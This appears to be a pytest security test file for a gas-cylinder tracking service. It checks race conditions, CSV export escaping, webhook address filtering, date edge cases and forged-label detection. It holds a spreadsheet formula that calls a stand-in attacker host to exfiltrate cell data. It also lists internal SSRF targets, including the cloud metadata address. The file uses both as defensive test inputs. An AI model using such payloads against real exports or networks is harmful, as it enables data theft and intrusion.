"""The trust round, as an attacker from outside would try it: concurrent clients, a spreadsheet
formula in a field, webhooks aimed inside the network, dates at the calendar's end, a forged
label on the phone and the public page, refusals that went uncounted. Each test is the attack;
docs/security.md lists them with what stops each one."""

from __future__ import annotations

import csv
import io
import os
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from sqlalchemy import text

from cylinder_trace.config import get_settings
from cylinder_trace.db.engine import get_engine
from tests.api.test_health_and_errors import assert_problem
from tests.api.test_jobs import Receiver, job_result
from tests.api.test_lifecycle import co, customer, full_cylinder  # noqa: F401 (fixture)
from tests.factories import GOOD, PASSWORD


def count(sql: str, **params: Any) -> int:
    with get_engine().connect() as conn:
        return int(conn.execute(text(sql), params).scalar() or 0)


# --- races ---------------------------------------------------------------------------------------

def test_six_concurrent_dispatches_of_one_cylinder(world: Any, co: Any) -> None:  # noqa: F811
    cust = customer(world, co)
    c = full_cylinder(world, co)
    body = {"worker_id": co["worker"]["id"], "vehicle_id": co["vehicle"]["id"],
            "customer_id": cust["id"], "codes": [c["code"]]}
    start = threading.Barrier(6)

    def post(_: int) -> Any:
        start.wait()
        return world.client.post("/api/v1/deliveries", headers=co["admin"]["headers"], json=body)

    with ThreadPoolExecutor(max_workers=6) as pool:
        answers = list(pool.map(post, range(6)))
    assert sorted(r.status_code for r in answers) == [201, 409, 409, 409, 409, 409]
    for r in answers:
        if r.status_code == 409:
            assert_problem(r, 409)
    assert count("SELECT count(*) FROM delivery WHERE :code = ANY(codes)", code=c["code"]) == 1
    assert count("SELECT count(*) FROM cylinder_event e JOIN cylinder c ON c.id = e.cylinder_id "
                 "WHERE c.code = :code AND e.kind = 'dispatched'", code=c["code"]) == 1


# --- leaks ---------------------------------------------------------------------------------------

def test_a_manufacturer_named_like_a_spreadsheet_formula(world: Any) -> None:
    e = world.enterprise()
    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    world.cylinder(e["id"], manufacturer=evil, serial_number="+1-555", **GOOD)
    world.cylinder(e["id"], manufacturer="@SUM(1)", serial_number="-2", **GOOD)
    world.cylinder(e["id"], manufacturer="plain", serial_number="P-1", **GOOD)
    r = world.client.get("/api/v1/cylinders.csv", headers=world.admin)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    cells = {row["manufacturer"] for row in rows} | {row["serial_number"] for row in rows}
    assert "'" + evil in cells and "'+1-555" in cells and "'@SUM(1)" in cells
    assert "'-2" in cells and "plain" in cells
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- bad input that answered 500 -----------------------------------------------------------------

def test_epcis_events_at_the_end_of_the_calendar(world: Any) -> None:
    for since, until in (("9999-12-31", "9999-12-31"), ("9999-01-01", "9999-12-31"),
                         ("0001-01-01", "0001-01-02")):
        r = world.client.get("/api/v1/epcis/events", params={"since": since, "until": until},
                             headers=world.admin)
        assert r.status_code == 200, (since, r.text)
        assert r.json()["epcisBody"]["eventList"] == []


def test_a_cylinder_inspected_in_the_year_9999(world: Any) -> None:
    e = world.enterprise()
    for last in ("9999-06-01", "9999-12-31"):
        r = world.client.post("/api/v1/cylinders", headers=world.admin, json={
            "owner_enterprise_id": e["id"], "manufacturer": "百工", "serial_number": f"F-{last}",
            "model": "YSP-35.5", "manufacture_date": "2022-03-01", "last_inspection_date": last})
        assert assert_problem(r, 422)["reason"] == "DATE_IN_FUTURE"
    # a due date at the calendar's end is a refusal, not a crash: past the inspection cycle
    r = world.client.post("/api/v1/cylinders", headers=world.admin, json={
        "owner_enterprise_id": e["id"], "manufacturer": "百工", "serial_number": "F-due",
        "model": "YSP-35.5", "manufacture_date": "2022-03-01", "next_inspection_due": "9999-12-31"})
    assert assert_problem(r, 422)["reason"] == "NEXT_INSPECTION_TOO_LATE"
    assert count("SELECT count(*) FROM cylinder") == 0


def test_a_csv_import_with_a_row_inspected_in_the_year_9999(world: Any) -> None:
    e = world.enterprise()
    data = ("manufacturer,serial_number,model,manufacture_date,last_inspection_date\n"
            "百工,Y-1,YSP-12,2021-01-05,9999-06-01\n"
            "百工,Y-2,YSP-12,2021-01-05,2021-06-01\n").encode()
    r = world.client.post(f"/api/v1/cylinders/import?owner_enterprise_id={e['id']}",
                          content=data, headers={**world.admin, "Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    report = r.json()
    assert report["imported"] == 1 and report["rejected"] == 1
    assert [(x["row"], x["field"]) for x in report["errors"]] == [(2, "last_inspection_date")]


# --- webhooks ------------------------------------------------------------------------------------

@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.server.shutdown()


@pytest.fixture
def allow_hosts() -> Iterator[Callable[[str], None]]:
    """Set the internal hosts webhooks may reach, for one test (the suite lists 127.0.0.1)."""
    before = os.environ.get("CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS")

    def set_to(value: str) -> None:
        os.environ["CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS"] = value
        get_settings.cache_clear()

    yield set_to
    if before is None:
        os.environ.pop("CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS", None)
    else:
        os.environ["CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS"] = before
    get_settings.cache_clear()


def test_a_company_aims_its_webhook_inside_the_network(world: Any,
                                                       allow_hosts: Callable[[str], None]) -> None:
    e = world.enterprise()
    admin = world.user("enterprise_admin", e["id"])
    allow_hosts("")  # as deployed: no internal host listed
    inside = ["http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/",
              "http://localhost:5432/", "http://127.0.0.2/", "http://[::1]/",
              "http://[::ffff:127.0.0.1]/", "http://0.0.0.0/", "http://100.64.0.1/",
              "http://192.168.1.1/", "http://240.0.0.1/", "http://224.0.0.1/",
              "http://2130706433/"]
    for url in inside:
        r = world.client.post("/api/v1/webhooks", json={"url": url}, headers=admin["headers"])
        assert assert_problem(r, 422)["reason"] == "WEBHOOK_ADDRESS_REFUSED", url
    for url in ("http://a:b:c/", "http://user:pw@93.184.215.14/", "ftp://93.184.215.14/",
                "http://exa mple.com/", "http:///nohost", "http://93.184.215.14:0/"):
        r = world.client.post("/api/v1/webhooks", json={"url": url}, headers=admin["headers"])
        assert assert_problem(r, 422)["reason"] == "BAD_URL", url
    bad = world.client.post("/api/v1/enterprises", headers=world.admin, json={
        "name": "x", "credit_code": "91500000MA0000999X", "region_code": "500103",
        "webhook_url": "http://10.0.0.1/"})
    assert bad.status_code == 422, bad.text
    assert count("SELECT count(*) FROM webhook") == 0
    # a public address is a receiver (registration resolves a literal: no traffic is sent)
    r = world.client.post("/api/v1/webhooks", json={"url": "https://93.184.215.14/hook"},
                          headers=admin["headers"])
    assert r.status_code == 201, r.text
    # and an operator may list an internal host of its own network
    allow_hosts("10.0.0.0/8")
    r = world.client.post("/api/v1/webhooks", json={"url": "http://10.0.0.1/"},
                          headers=admin["headers"])
    assert r.status_code == 201, r.text


def _seize(world: Any, code: str) -> None:
    regulator = world.user("regulator", region_codes=["500000"])
    r = world.client.post(f"/api/v1/cylinders/{code}/seizure", headers=regulator["headers"],
                          json={"reason": "检查"})
    assert r.status_code == 200, r.text


def _deliver(world: Any) -> dict[str, Any]:
    r = world.client.post("/api/v1/jobs/deliver_notifications/run", headers=world.admin)
    assert r.status_code == 200, r.text
    assert r.json()["last_status"] == "ok", r.json()
    return dict(r.json()["last_result"])


def test_a_receiver_that_turns_internal_after_registration(
        world: Any, receiver: Receiver, allow_hosts: Callable[[str], None]) -> None:
    e = world.enterprise()
    admin = world.user("enterprise_admin", e["id"])
    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
                          headers=admin["headers"])
    assert r.status_code == 201, r.text
    _seize(world, world.cylinder(e["id"], **GOOD)["code"])
    allow_hosts("")  # what resolved to an allowed address then resolves to a refused one now
    assert _deliver(world) == {"delivered": 0, "retry": 1, "dead": 0}
    assert receiver.received == []
    assert count("SELECT count(*) FROM notification_delivery "
                 "WHERE last_error = 'ADDRESS_REFUSED'") == 1


def test_one_companys_malformed_webhook_does_not_stop_the_others(world: Any,
                                                                   receiver: Receiver) -> None:
    e = world.enterprise()
    admin = world.user("enterprise_admin", e["id"])
    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
                          headers=admin["headers"])
    assert r.status_code == 201, r.text
    with get_engine().begin() as conn:  # registered before URLs were checked
        conn.execute(text("INSERT INTO webhook (id, enterprise_id, url, secret, active) "
                          "VALUES (gen_random_uuid(), :e, 'http://a:b:c/', 's', true)"),
                     {"e": e["id"]})
    _seize(world, world.cylinder(e["id"], **GOOD)["code"])
    with get_engine().begin() as conn:  # the bad one is first in line
        conn.execute(text("UPDATE notification_delivery d SET next_attempt_at = "
                          "next_attempt_at - interval '1 minute' FROM webhook w "
                          "WHERE w.id = d.webhook_id AND w.url = 'http://a:b:c/'"))
    assert _deliver(world) == {"delivered": 1, "retry": 1, "dead": 0}
    assert [n["kind"] for n in receiver.received] == ["cylinder_seized"]


def test_a_regulators_recall_is_news_to_the_company_whose_cylinders_it_caught(
        world: Any, receiver: Receiver) -> None:
    a, b = world.enterprise(), world.enterprise()
    admin_a = world.user("enterprise_admin", a["id"])
    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
                          headers=admin_a["headers"])
    assert r.status_code == 201, r.text
    mine = world.cylinder(a["id"], **GOOD)
    world.cylinder(b["id"], **GOOD)
    regulator = world.user("regulator", region_codes=["500000"])
    r = world.client.post("/api/v1/recalls", headers=regulator["headers"], json={
        "reason": "阀门缺陷", "criteria": {"codes": [mine["code"]]}})
    assert r.status_code == 201, r.text
    seen = world.client.get("/api/v1/notifications", headers=admin_a["headers"]).json()
    assert [n["kind"] for n in seen] == ["recall_started"]
    admin_b = world.user("enterprise_admin", b["id"])
    assert world.client.get("/api/v1/notifications", headers=admin_b["headers"]).json() == []
    assert _deliver(world)["delivered"] == 1
    assert [n["kind"] for n in receiver.received] == ["recall_started"]


# --- what is counted -----------------------------------------------------------------------------

def _refusals_of(enterprise_id: str) -> int:
    """Refused scans at this company's stations, counted straight from what was recorded."""
    return count(
        "SELECT (SELECT count(*) FROM cylinder_event e JOIN station s ON s.id = e.station_id "
        "        WHERE e.kind = 'fill_denied' AND s.enterprise_id = :e) + "
        "(SELECT count(*) FROM unregistered_scan u JOIN station s ON s.id = u.station_id "
        " WHERE s.enterprise_id = :e)", e=enterprise_id)


def test_never_issued_codes_scanned_to_hide_from_the_refusal_counts(world: Any) -> None:
    from cylinder_trace.domain.codes import make_code

    cq, sc = world.enterprise("500103"), world.enterprise("510104")
    key_cq = world.api_key(world.station(cq["id"])["id"])
    key_sc = world.api_key(world.station(sc["id"])["id"])
    two_phase = world.cylinder(cq["id"], model="YSP-118-II", **GOOD)
    scans = [(key_cq, two_phase["qr_text"]),
             (key_cq, f"HTTPS://CT.EXAMPLE.CN/C/{make_code('CT', 77_000_001)}/1AAAAAAAA"),
             (key_cq, "not a code at all"),
             (key_sc, f"HTTPS://CT.EXAMPLE.CN/C/{make_code('CT', 77_000_002)}/1AAAAAAAA")]
    for key, scan in scans:
        r = world.client.post("/api/v1/fill-authorizations", json={"scan": scan}, headers=key)
        assert r.json()["decision"] == "deny", r.text
    assert _refusals_of(cq["id"]) == 3 and _refusals_of(sc["id"]) == 1
    admin = world.user("enterprise_admin", cq["id"])
    regulator = world.user("regulator", region_codes=["500000"])
    for _ in range(2):  # as written, then once the tallies are compacted
        for who in (admin, regulator):
            per_day = world.client.get("/api/v1/stats/fills-per-day",
                                       headers=who["headers"]).json()
            assert sum(d["denied"] for d in per_day) == _refusals_of(cq["id"])
            reasons = {x["code"]: x["count"] for x in world.client.get(
                "/api/v1/stats/deny-reasons", headers=who["headers"]).json()}
            assert reasons == {"TWO_PHASE_VALVE": 1, "UNREGISTERED": 2}
        world.client.post("/api/v1/jobs/compact_stats/run", headers=world.admin)
    sichuan = world.user("regulator", region_codes=["510000"])
    per_day = world.client.get("/api/v1/stats/fills-per-day", headers=sichuan["headers"]).json()
    assert sum(d["denied"] for d in per_day) == _refusals_of(sc["id"]) == 1
    # the refused-fill feed lists them, in scope
    c = world.client
    c.cookies.clear()
    r = c.post("/login", data={"username": regulator["username"], "password": PASSWORD})
    assert r.status_code == 200, r.text
    feed = c.get("/feed").text
    assert make_code("CT", 77_000_001) in feed and "not a code at all" in feed
    assert make_code("CT", 77_000_002) not in feed
    assert feed.count('<span class="en">UNREGISTERED</span>') == 2
    only = c.get("/feed", params={"reason": "UNREGISTERED"}).text
    assert make_code("CT", 77_000_001) in only and two_phase["code"] not in only
    c.cookies.clear()


# --- what the public page says -------------------------------------------------------------------

def test_a_forged_label_on_the_public_page_reads_suspect_not_in_service(world: Any) -> None:
    e = world.enterprise()
    c = world.cylinder(e["id"], **GOOD)
    code, sig = c["qr_text"].split("/")[-2:]
    forged = sig[0] + ("A" if sig[1] != "A" else "B") + sig[2:]
    page = world.client.get(f"/C/{code}/{forged}").text
    assert 'data-status="suspect"' in page and "badge red" in page
    assert "标签可疑·请勿使用" in page and "Suspect label, do not use" in page
    assert "可以使用" not in page and "In service" not in page
    genuine = world.client.get(f"/C/{code}/{sig}").text
    assert 'data-status="in_service"' in genuine and "标签可疑" not in genuine


def test_dates_shown_to_people_are_in_their_time_zone(world: Any) -> None:
    from datetime import UTC, datetime, time, timedelta
    from zoneinfo import ZoneInfo

    zone = ZoneInfo(get_settings().timezone)
    # 20:00 UTC yesterday is already today at 04:00 in Asia/Shanghai
    at = datetime.combine(datetime.now(UTC).date() - timedelta(days=1), time(20), UTC)
    shown, utc_day = at.astimezone(zone).date().isoformat(), at.date().isoformat()
    assert shown != utc_day
    e = world.enterprise()
    c = world.cylinder(e["id"], **GOOD)
    regulator = world.user("regulator", region_codes=["500000"])
    r = world.client.post("/api/v1/recalls", headers=regulator["headers"], json={
        "reason": "阀门缺陷", "criteria": {"codes": [c["code"]]}})
    assert r.status_code == 201, r.text
    with get_engine().begin() as conn:  # as if filled and recalled at that moment
        conn.execute(text("UPDATE cylinder SET last_fill_at = :at WHERE code = :c"),
                     {"at": at, "c": c["code"]})
        conn.execute(text("UPDATE recall_campaign SET created_at = :at"), {"at": at})
    page = world.client.get(f"/c/{c['code']}").text
    assert shown in page and utc_day not in page.split("最近充装")[1].split("</dd>")[0]
    world.client.cookies.clear()
    world.client.post("/login", data={"username": regulator["username"], "password": PASSWORD})
    recalls = world.client.get("/recalls").text
    world.client.cookies.clear()
    assert shown in recalls and utc_day not in recalls


def test_the_same_empty_received_twice_and_four_times_at_once(world: Any, co: Any) -> None:  # noqa: F811
    c = world.cylinder(co["e"]["id"], **GOOD)
    url = f"/api/v1/cylinders/{c['code']}/return"
    body = {"station_id": co["s"]["id"]}
    first = world.client.post(url, headers=co["admin"]["headers"], json=body)
    again = world.client.post(url, headers=co["admin"]["headers"], json=body)
    assert first.status_code == again.status_code == 200, again.text
    assert again.json()["location_kind"] == "station"
    other = world.cylinder(co["e"]["id"], **GOOD)
    start = threading.Barrier(4)

    def tap(_: int) -> int:
        start.wait()
        return int(world.client.post(f"/api/v1/cylinders/{other['code']}/return",
                                     headers=co["admin"]["headers"], json=body).status_code)

    with ThreadPoolExecutor(max_workers=4) as pool:
        assert list(pool.map(tap, range(4))) == [200] * 4
    for code in (c["code"], other["code"]):
        assert count("SELECT count(*) FROM cylinder_event e JOIN cylinder c ON c.id = "
                     "e.cylinder_id WHERE c.code = :c AND e.kind = 'returned'", c=code) == 1


# --- the calendar --------------------------------------------------------------------------------

def test_a_job_at_an_injected_clock_delivers_what_it_wrote(world: Any, receiver: Receiver) -> None:
    """The outbox is stamped with the job's clock, not the database's: a digest written and
    delivered at a clock time (a replay, a test on any date) is due at that time."""
    from datetime import UTC, datetime, timedelta

    from cylinder_trace.jobs import run_job
    from tests.factories import days_ago

    e = world.enterprise()
    admin = world.user("enterprise_admin", e["id"])
    assert world.client.post("/api/v1/webhooks", json={"url": receiver.url},
                             headers=admin["headers"]).status_code == 201
    world.cylinder(e["id"], manufacture_date=days_ago(6 * 365), last_inspection_date=days_ago(
        4 * 365 - 30), next_inspection_due=days_ago(60))  # overdue then and now
    clock = datetime.now(UTC) - timedelta(days=40)
    assert job_result("inspection_digest", clock)["notifications"] == 1
    assert run_job("deliver_notifications", now=clock).result == {
        "delivered": 1, "retry": 0, "dead": 0}
    assert [n["kind"] for n in receiver.received] == ["inspection_due"]
